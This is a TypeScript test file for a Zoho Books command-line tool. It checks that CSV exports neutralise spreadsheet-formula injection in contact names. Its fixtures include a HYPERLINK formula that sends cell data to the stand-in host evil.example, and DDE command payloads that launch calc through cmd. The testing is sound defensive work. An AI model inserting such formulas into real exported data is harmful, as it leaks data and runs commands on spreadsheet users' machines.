import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { zbooks } from '../helpers/cli.js';
import { type ExportWorld, exportWorld } from '../helpers/export-world.js';

// Customer-typed text that a spreadsheet would run (issue 9.8), next to values that must stay as they are.
// (Names are trimmed, as Zoho does, so the tab and CR cases are in formats.test.ts.)
const NAMES = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Invoice")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)*cmd|x',
  '-12.5',
  'Plain & Sons, Ltd',
];
const GUARDED = [
  `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Invoice"")"`,
  `"'+cmd|' /C calc'!A0"`,
  `"'-2+3"`,
  `"'@SUM(1+1)*cmd|x"`,
  '-12.5',
  '"Plain & Sons, Ltd"',
];

let world: ExportWorld;
beforeAll(async () => {
  world = await exportWorld(['Csv Org']);
  for (const contact_name of NAMES) {
    const created = await world.api('POST', '/contacts', 'Csv Org', { contact_name });
    expect(created.code).toBe(0);
  }
});
afterAll(() => world.close());

const env = () => world.env('Csv Org');
/** The contact_name cells, in creation order (the list is newest first). */
const cells = (csv: string) => csv.split('\r\n').slice(1, -1).reverse();

describe('csv cells never run as formulas (issue 9.8)', () => {
  it('`--format csv` neutralises cells starting with = + - @ tab or CR, except plain numbers', async () => {
    const result = await zbooks(['contacts', 'list', '--format', 'csv', '--fields', 'contact_name'], {
      env: env(),
    });
    expect(result.code).toBe(0);
    expect(result.stdout.split('\r\n')[0]).toBe('contact_name');
    expect(cells(result.stdout)).toEqual(GUARDED);
  });

  it('`export --out x.csv` does the same; --raw-csv writes the cells as received', async () => {
    const out = join(world.dir, 'contacts.csv');
    const guarded = await zbooks(['export', 'contacts', '--out', out, '--fields', 'contact_name'], {
      env: env(),
    });
    expect(guarded.code).toBe(0);
    const text = await readFile(out, 'utf8');
    // The export is oldest first.
    expect(text.split('\r\n').slice(1, -1)).toEqual(GUARDED);

    const raw = await zbooks(
      ['contacts', 'list', '--format', 'csv', '--fields', 'contact_name', '--raw-csv'],
      {
        env: env(),
      },
    );
    expect(cells(raw.stdout)).toEqual([
      `"=HYPERLINK(""http://evil.example/?x=""&A1,""Invoice"")"`,
      "+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1+1)*cmd|x',
      '-12.5',
      '"Plain & Sons, Ltd"',
    ]);
  });
});
